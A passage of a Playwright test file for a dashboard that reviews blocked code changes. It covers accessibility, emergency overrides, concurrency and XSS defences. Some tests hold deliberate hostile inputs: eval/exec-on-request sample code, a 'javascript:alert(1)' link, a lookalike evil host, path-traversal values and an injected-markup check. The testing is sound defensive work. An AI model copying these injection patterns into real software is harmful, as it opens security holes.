  await changeAnswer(page, `**/api/cra/rfc/${id}`, { next_steps });
  await open(`#/rfc/${id}`, '.finding .actions');
  const first = page.locator('.finding:has-text("secret-aws") .actions');
  await first.locator('button:has-text("Accept")').click();
  await page.waitForSelector('.tick >> text=/Accept 1 of the findings/');
  const day = new Date(Date.now() + 30 * 24 * 3_600_000).toISOString().slice(0, 10);
  t.is(await page.inputValue('[type=date]'), day);
  t.is(await first.locator('[aria-pressed=true]').count(), 1);
  // Another verdict may give the id to another finding: somebody has to choose again.
  await changeAnswer(page, `**/api/cra/rfc/${id}`, { next_steps, updated_at: day });
  await page.reload();
  await first.locator('[aria-pressed=false]').waitFor();
  t.is(await page.locator('.tick >> text=/Accept 1 of the findings/').count(), 0);
  // All, or up to 100 by name: no button asks for what is refused.
  await page.check('.tick >> text=/Accept these findings/');
  await first.locator('text=/Accepted.*at most 100/').waitFor();
  t.is(await first.locator('[aria-pressed]').count(), 0);
  t.deepEqual(await violations(page), []);
  t.deepEqual(problems, []);
});

/** Changes fields of what the page reads from an address. */
async function changeAnswer(page: Page, url: string, over: Record<string, unknown>) {
  await page.route(url, async (route) => {
    const answer = (await (await route.fetch()).json()) as { data: object };
    await route.fulfill({ json: { ...answer, data: { ...answer.data, ...over } } });
  });
}

/** Adds a finding as the person at the page. */
async function addFinding(page: Page, id: string, at: { file: string; line: number }) {
  const body = JSON.stringify({ message: 'Nobody calls it', severity: 'low', ...at });
  const init = `{method: 'POST', headers: {'Content-Type': 'application/json'}, body: '${body}'}`;
  const status = await page.evaluate(
    `fetch('/api/cra/rfc/${id}/findings', ${init}).then((reply) => reply.status)`,
  );
  if (status !== 200) throw new Error(`the finding was not added: ${status}`);
}

/** Moves on by Tab until the focus is on what `selector` names. */
async function tabTo(page: Page, selector: string): Promise<void> {
  await page.waitForSelector(selector);
  for (let presses = 0; presses < 200; presses += 1) {
    await page.keyboard.press('Tab');
    if (await page.evaluate(`document.activeElement.matches(${JSON.stringify(selector)})`)) return;
  }
  throw new Error(`Tab does not reach ${selector}`);
}

test.serial('by keyboard alone: bulk override, revoke, rules, logout', async (t) => {
  const house = dashboard();
  const { page, open } = await house.visit(t);
  const repo = 'keys/only';
  const first = await house.submit(blockedChange({ repo_name: repo }));
  const second = await house.submit(
    change(newFile('a.js', 'exec(req.query.a)\n'), { repo_name: repo }),
  );
  // Accepts a finding, so that there is one to revoke.
  await open(`#/rfc/${first}`, '#reason');
  await tabTo(page, '#reason');
  await page.keyboard.type(REASON);
  await tabTo(page, '.tick input');
  await page.keyboard.press('Space');
  await tabTo(page, '.decide button.main');
  await page.keyboard.press('Enter');
  await page.waitForSelector('text=recorded in the audit trail');

  await open(`#/suppressions?repo=${repo}`, 'table.rows');
  await tabTo(page, 'td summary');
  await page.keyboard.press('Enter');
  await tabTo(page, 'td textarea');
  await page.keyboard.type('The key is used again elsewhere');
  await tabTo(page, 'td button');
  await page.keyboard.press('Enter');
  await page.waitForSelector('text=No finding is accepted here');

  await open('#/bulk', '#filter');
  await tabTo(page, '#filter');
  await page.keyboard.type(repo);
  await page.keyboard.press('Enter');
  await page.waitForSelector('table.rows input');
  t.false(await page.isChecked('table.rows input'), 'a vuln-* needs a look of its own');
  await tabTo(page, 'table.rows input');
  await page.keyboard.press('Space');
  await tabTo(page, '#reason');
  await page.keyboard.type(REASON);
  await page.keyboard.press('Tab');
  await page.keyboard.type('1');
  await page.keyboard.press('Enter');
  await page.waitForSelector('text=1 of 1 are overridden');
  t.deepEqual(await decisionsOf(house, second), ['override']);

  await open('#/rules', 'a[href="#/rules/edit"]');
  await tabTo(page, 'a[href="#/rules/edit"]');
  await page.keyboard.press('Enter');
  await tabTo(page, 'textarea');
  await page.keyboard.press('Control+a');
  await page.keyboard.type('{"version": 1, "extends": "default"}');
  await page.keyboard.press('Tab');
  await page.keyboard.type('by keyboard');
  await page.keyboard.press('Enter');
  await page.waitForSelector('text=In force as revision');

  await tabTo(page, 'header .person summary');
  await page.keyboard.press('Enter');
  await tabTo(page, 'header .person button:last-of-type');
  await page.keyboard.press('Enter');
  await page.waitForSelector('input[name=password]');
});

test.serial('from the link of an escalation over the login to the decision', async (t) => {
  const house = dashboard();
  const { page, problems } = await house.visit(t);
  const text = `#!/bin/sh\nset -e\nexport AWS_REGION=eu-west-1\nexport AWS_KEY=${AWS_KEY}\n./run`;
  const commit_message = 'Deploy: new keys for staging';
  const id = await house.submit(change(newFile('deploy/env.sh', text), { commit_message }));
  await page.goto(`${house.origin}/cra#approve-${id}`);
  await logIn(page);
  await page.waitForSelector('.code');
  t.true(page.url().endsWith(`/cra#approve-${id}`));
  const shown = await page.innerText('main');
  t.true(shown.includes('BLOCKED') && shown.includes('deploy/env.sh'));
  t.false(shown.includes(AWS_KEY));
  await page.click('button.main');
  await page.waitForSelector('text=The reason needs at least 20 characters');
  await page.fill('#reason', REASON);
  await page.keyboard.press('Control+Enter');
  await page.waitForSelector('text=recorded in the audit trail');
  await page.waitForSelector('h1:has-text("OVERRIDDEN")');
  await page.reload();
  await page.waitForSelector('.history >> text=/override by/');
  t.regex(await page.innerText('.history'), /override by .*\n.*The key is revoked/s);
  await page.goto(`${house.origin}/cra#/audit?rfc_id=${id}`);
  await page.waitForSelector('table.rows >> text=override');
  t.regex(await page.innerText('table.rows'), /The key is revoked/);
  t.deepEqual(problems, []);
});

test.serial('views have no violation of WCAG 2.2 AA at 320, 1280 and 1920 px', async (t) => {
  const house = dashboard();
  const { page, problems, open } = await house.visit(t);
  const id = await house.submit(change(newFile('a.js', 'eval(req.query.a)\n')));
  await submitSamples(house);
  await open('#/queue', 'table.queue');
  // All pages in all schemes and states at all widths: `npm run proof -- tests`.
  for (const [width, colorScheme] of [
    [320, 'light'],
    [1280, 'dark'],
    [1920, 'light'],
  ] as const) {
    await page.emulateMedia({ colorScheme });
    await page.setViewportSize({ width, height: 900 });
    for (const [hash, ready] of views(id)) {
      await open(hash, ready);
      t.deepEqual(await violations(page), [], `${hash} ${colorScheme} ${width}`);
    }
  }
  t.deepEqual(problems, []);
});

test.serial('links lead to the host of the settings, whatever a change says', async (t) => {
  const house = dashboard();
  const { page, open } = await house.visit(t);
  const id = await openBlocked(house, { page, problems: [], open });
  const hosts = [{ id: 'gl', provider: 'gitlab', url: 'https://git.example' }];
  await changeAnswer(page, '**/api/cra/auth/session', { hosts });
  const { push } = samplePush({ rfc_id: id });
  const pull = { number: 7, title: 'Fix', url: 'https://git.example/acme/shop/-/merge_requests/7' };
  const linksOf = async (over: Record<string, unknown>): Promise<string[]> => {
    await page.unroute(`**/api/cra/rfc/${id}`);
    const pushed = { push: { ...push, host: 'gl' }, commit_sha: 'a'.repeat(40), ...over };
    await changeAnswer(page, `**/api/cra/rfc/${id}`, pushed);
    await page.reload();
    await page.waitForSelector('.rfc-head');
    return await page
      .locator('.rfc-head a[target]')
      .evaluateAll((all) => all.map((each) => String((each as { href?: string }).href)));
  };
  const repository = 'https://git.example/acme/shop';
  t.deepEqual(await linksOf({ branch: 'fix/a b', pull_request: pull }), [
    repository,
    `${repository}/-/tree/fix/a%20b`,
    `${repository}/-/commit/${'a'.repeat(40)}`,
    pull.url,
  ]);
  const hostile = { branch: '../../x', commit_sha: 'a/../..', pull_request: pull };
  for (const url of ['javascript:alert(1)', 'https://git.example.evil/7', null]) {
    t.deepEqual(await linksOf({ ...hostile, pull_request: { ...pull, url } }), [repository]);
  }
  t.deepEqual(await linksOf({ repo_full_name: 'acme/..' }), []);
  t.deepEqual(await linksOf({ push: { ...push, host: 'unknown' } }), []);
});

test.serial('an emergency: the tick, who may review it, confirm, object, the queue', async (t) => {
  const house = dashboard();
  const visitor = await house.visit(t);
  const { page, problems, open } = visitor;
  const own = await openBlocked(house, visitor);
  await page.fill('#reason', REASON);
  await page.check('text=another person has to review this override');
  await page.click('button.main');
  await page.waitForSelector('text=You made this override, so another person has to review it.');
  t.is(await page.locator('#review-reason').count(), 0);
  t.deepEqual(await violations(page), []);

  const confirmed = await emergencyElsewhere(house);
  const objected = await emergencyElsewhere(house);
  const queue = '#/queue?status=EMERGENCIES';
  await open(queue, `a[href="#/rfc/${objected}"]`);
  t.is(await page.locator('table.rows tbody tr').count(), 3);
  t.regex(await page.innerText('table.rows'), /bob.*incident 18/s);
  await page.waitForSelector('.choices >> text=to review 3');
  t.deepEqual(await violations(page), []);
  await page.click(`a[href="#/rfc/${confirmed}"]`);
  await page.click('text=Confirm the override');
  await page.waitForSelector('text=The reason needs at least 20 characters');
  await page.fill('#review-reason', REASON);
  const busy = { status: 503, json: { ok: false, error: 'The service is busy' } };
  await page.route('**/review-emergency', (route: Route) => route.fulfill(busy), { times: 1 });
  await page.click('text=Confirm the override');
  await page.waitForSelector('section[aria-label=Emergency] [role=alert]');
  t.deepEqual(await violations(page), []);
  await page.click('text=Confirm the override');
  await page.waitForSelector('text=It was confirmed by');
  t.deepEqual(await decisionsOf(house, confirmed), ['override', 'confirm']);

  await open(`#/rfc/${objected}`, '#review-reason');
  await page.fill('#review-reason', REASON);
  await page.click('text=Object and revoke it');
  await page.waitForSelector('text=It was objected to, and revoked, by');
  await page.waitForSelector('h1:has-text("REJECTED")');
  t.deepEqual(await decisionsOf(house, objected), ['override', 'object']);

  // The list hears of what others review, and says why it is not there.
  await open(queue, `a[href="#/rfc/${own}"]`);
  await objectElsewhere(house, own);
  await page.waitForSelector('text=No emergency override waits for a review');
  await page.route('**/api/cra/emergencies', (route: Route) => route.fulfill({ status: 500 }));
  await page.reload();
  await page.waitForSelector('main [role=alert] >> text=Try again');
  t.deepEqual(await violations(page), []);
  t.deepEqual(problems, []);
});

test.serial(
  'coverage: no owners, gaps first, a round under way, a filter, a failure',
  async (t) => {
    const house = dashboard();
    const { page, problems, open } = await house.visit(t);
    await open('#/coverage', 'text=No owners are configured');
    t.deepEqual(await violations(page), []);

    const at = '2026-11-28T10:00:00.000Z';
    const row = (repo: string, over: object = {}) => ({
      repo,
      default_branch: 'main',
      checked_at: at,
      webhook: 'active',
      last_delivery_at: at,
      gate: 'required',
      gate_source: 'app',
      bypass: [],
      newest_push: 'judged',
      coverage: 'covered',
      ...over,
    });
    const bare = { webhook: 'missing', last_delivery_at: null, gate: 'missing', gate_source: null };
    const hub = {
      host: 'hub',
      provider: 'github',
      owners: ['acme'],
      started_at: at,
      finished_at: at,
      listed: 206,
      checked: 4,
      problem: `the host limits our calls ${HOSTILE}`,
      repositories: [
        row('acme/covered'),
        row('acme/empty', { default_branch: null, gate: 'unknown', coverage: 'unknown' }),
        row(`acme/${HOSTILE}`, { ...bare, bypass: ['administrators', HOSTILE], coverage: 'gap' }),
        row('acme/late', { newest_push: 'unjudged', bypass: null, coverage: 'gap' }),
        ...Array.from({ length: 202 }, (_, n) => row(`acme/x${n}`)),
      ],
    };
    const lab = { ...hub, host: 'lab', started_at: null, finished_at: null, problem: null };
    const data = [hub, { ...lab, listed: 0, checked: 0, repositories: [] }];
    await page.route('**/api/cra/coverage', (route: Route) =>
      route.fulfill({ json: { ok: true, data } }),
    );
    await page.reload();
    await page.waitForSelector('table.rows');
    const text = await page.innerText('main');
    t.false(UNSEEN.test(text));
    t.regex(text, /A round is under way: 4 of 206 are checked/);
    t.regex(text, /lab\s+acme\. No round has ended yet\.\s+No repository is known yet/);
    t.regex(text, /\n6 more: search/);
    const rows = page.locator('table.rows tbody tr');
    t.regex(await rows.nth(0).innerText(), /gap .*is missing.*does not require cra\/gate.*admin/s);
    t.regex(await rows.nth(1).innerText(), /acme\/late.*of the App.*not known.*not judged/s);
    t.regex(await rows.nth(2).innerText(), /acme\/empty.*not known.*empty repository/s);
    t.regex(await rows.nth(3).innerText(), /acme\/covered.*covered.*works, last .*nobody/s);
    t.deepEqual(await violations(page), []);
    await page.click('.choices >> text=gap 2');
    // The field for the name is made again with the rows.
    await rows.nth(2).waitFor({ state: 'detached' });
    await page.fill('#filter', 'late');
    await page.press('#filter', 'Enter');
    await page.waitForURL((url) => url.hash === '#/coverage?state=gap&repo=late');
    await rows.nth(1).waitFor({ state: 'detached' });
    t.is(await rows.count(), 1);

    const broken = { ok: false, error: 'the store does not answer', request_id: 'r-1' };
    await page.route('**/api/cra/coverage', (route: Route) =>
      route.fulfill({ status: 503, json: broken }),
    );
    await page.reload();
    await page.waitForSelector('main [role=alert] >> text=Try again');
    t.deepEqual(await violations(page), []);
    await page.route('**/api/cra/coverage', () => undefined);
    await page.click('text=Try again');
    await page.reload();
    await page.waitForSelector('main .skeleton');
    t.deepEqual(problems, []);
  },
);

test.serial('of two approvers the second learns who was first, and keeps the text', async (t) => {
  const house = dashboard();
  const visitor = await house.visit(t);
  const { page } = visitor;
  // The page does not hear of the other decision before it sends its own.
  await silencePulse(page);
  const id = await openBlocked(house, visitor);
  await page.fill('#reason', REASON);
  await overrideElsewhere(house, id);
  await page.click('button.main');
  await page.waitForSelector('text=Nothing was done');
  await page.waitForSelector('text=Bob was faster than the page');
  t.deepEqual(await decisionsOf(house, id), ['override']);
  await page.click('summary:has-text("Reject it")');
  t.is(await page.inputValue('#reason'), REASON);
});

test.serial('the page says that somebody else decided, before a second decision', async (t) => {
  const house = dashboard();
  const visitor = await house.visit(t);
  const { page } = visitor;
  const id = await openBlocked(house, visitor);
  await page.fill('#reason', REASON);
  await overrideElsewhere(house, id);
  await page.waitForSelector('text=This change is OVERRIDDEN now');
  await page.click('button.main');
  await page.waitForSelector('text=show the newest state first');
  await page.click('[data-key=r]');
  await page.waitForSelector('h1:has-text("OVERRIDDEN")');
  t.deepEqual(await decisionsOf(house, id), ['override']);
});

test.serial('a double click, a lost reply and a second try are one decision', async (t) => {
  const house = dashboard();
  const visitor = await house.visit(t);
  const { page } = visitor;
  const id = await openBlocked(house, visitor);
  let sent = 0;
  await page.route('**/api/cra/approve/*', async (route: Route) => {
    sent += 1;
    if (sent > 1) return route.continue();
    await route.fetch();
    return route.abort();
  });
  await page.fill('#reason', REASON);
  await page.dblclick('button.main');
  await page.waitForSelector('text=not known whether the decision was made');
  t.is(sent, 1);
  await page.click('button.main');
  await page.waitForSelector('text=recorded in the audit trail');
  t.deepEqual(await decisionsOf(house, id), ['override']);
});

test.serial('offline nothing is sent, and the text stays', async (t) => {
  const house = dashboard();
  const visitor = await house.visit(t);
  const { page } = visitor;
  const other = await house.submit(blockedChange());
  const id = await openBlocked(house, visitor);
  await page.fill('#reason', REASON);
  await page.context().setOffline(true);
  await page.waitForSelector('text=What is shown may be old');
  await page.click('button.main');
  await page.waitForSelector('text=so nothing is sent');
  // A page that was opened meanwhile comes by itself.
  await page.evaluate(`location.hash = '#/rfc/${other}'`);
  await page.waitForSelector('text=This change could not be loaded');
  await page.context().setOffline(false);
  await page.waitForSelector('.finding');
  await page.waitForSelector('text=What is shown may be old', { state: 'detached' });
  await page.goBack();
  await page.waitForSelector('#reason');
  t.is(await page.inputValue('#reason'), REASON);
  t.deepEqual(await decisionsOf(house, id), []);
});

/** What `GET score` answers where one owner has changes. */
function scoreReport(group: string) {
  const measures = {
    changes: 300,
    failures: 60,
    base_rate: 0.2,
    auc: 0.7,
    ece: 0.1,
    model_ece: 0.2,
  };
  const bin = { from: 20, to: 29, changes: 300, expected: 0.25, failed: 0.2 };
  return { groups_total: 1, groups: [{ group, curve: null, ...measures, reliability: [bin] }] };
}

test.serial('hostile text in every field runs nothing and reads forwards', async (t) => {
  const house = dashboard();
  const visitor = await house.visit(t);
  const { page, problems, open } = visitor;
  const name = HOSTILE.replaceAll(/[/"]/g, '');
  // The service takes no such characters in the names of repositories and branches.
  const place = HOSTILE.replaceAll(/[\p{Cc}\p{Cf}]/gu, '');
  const lines = Array.from({ length: 520 }, (_, n) => `exec('${name}' + req.query.a${n})`);
  const id = await openBlocked(house, visitor, {
    repo_name: place,
    branch: place,
    commit_message: `${HOSTILE_TEXT}${'x'.repeat(64_000)}`,
  });
  const many = await house.submit(
    change(newFile(`${name}.js`, lines.join('\n')), { repo_name: place, branch: place }),
  );
  await addRemarks(page, HOSTILE);
  t.regex(await page.innerText('h1'), /^\s*BLOCKED/, 'people move no verdict');
  await page.check('.tick input');
  await page.fill('#reason', HOSTILE_TEXT);
  await page.click('button.main');
  await page.waitForSelector('text=neither NUL');
  await page.fill('#reason', HOSTILE);
  await page.click('button.main');
  await page.waitForSelector('text=recorded in the audit trail');
  await house.call('ops-log', {
    action: HOSTILE,
    description: HOSTILE,
    command: HOSTILE,
  });
  await house.call('usage/log', {
    provider: HOSTILE,
    model: HOSTILE,
    context: HOSTILE,
    input_tokens: 1,
    output_tokens: 1,
    cost_usd: 0.5,
  });
  await page.route('**/api/cra/score', (route) =>
    route.fulfill({ json: { ok: true, data: scoreReport(HOSTILE) } }),
  );
  const evil = encodeURIComponent(HOSTILE);
  const evilPlace = encodeURIComponent(place);
  const common = [id, many].flatMap(views).filter(([hash]) => !/queue|bulk/.test(hash));
  for (const [hash, ready] of [
    ...common,
    [`#/queue?status=ALL&repo=${evilPlace}`, 'table.queue'],
    [`#/bulk?repo=${evilPlace}`, 'table.rows'],
    [`#/rfc/${evil}`, 'text=No RFC with this id'],
    [`#/${evil}`, 'text=There is no such page'],
    [`#/usage?days=${evil}`, 'text=/for \\d+ calls/'],
  ] as const) {
    await open(hash, ready);
    await openAll(page);
    t.false(UNSEEN.test(await page.innerText('body')), hash);
    t.is(
      await page
        .locator('main :is(img, svg:not(.bar-chart, .drawing, .icon, .room), script)')
        .count(),
      0,
      hash,
    );
    t.not(await page.title(), '1');
  }
  t.deepEqual(problems, []);
});

test.serial(
  'a page that makes markup of the same text is stopped; without the policy it runs',
  async (t) => {
    const house = dashboard();
    const id = await house.submit(blockedChange({ commit_message: HOSTILE }));
    const script = `fetch('/api/cra/rfc/${id}').then((reply) => reply.json()).then(({ data }) => {
    document.body.innerHTML = data.commit_message; });`;
    for (const hasPolicy of [true, false]) {
      const { page, problems, open } = await house.visit(t);
      await open(`#/rfc/${id}`, '.code');
      await page.route('**/cra/assets/main-*.js', (route) =>
        route.fulfill({ contentType: 'text/javascript', body: script }),
      );
      await page.route('**/cra', async (route) => {
        const answer = await route.fetch();
        const { 'content-security-policy': policy = '', ...headers } = answer.headers();
        await route.fulfill({
          body: await answer.text(),
          headers: hasPolicy ? { ...headers, 'content-security-policy': policy } : headers,
        });
      });
      const refused = hasPolicy ? page.waitForEvent('pageerror') : Promise.resolve();
      await page.reload();
      await refused;
      if (hasPolicy) {
        t.true(problems.some((problem) => problem.includes('TrustedHTML')));
        t.not(await page.title(), '1');
      } else {
        await page.waitForFunction("document.title === '1'");
        t.deepEqual(problems, []);
      }
    }
  },
);
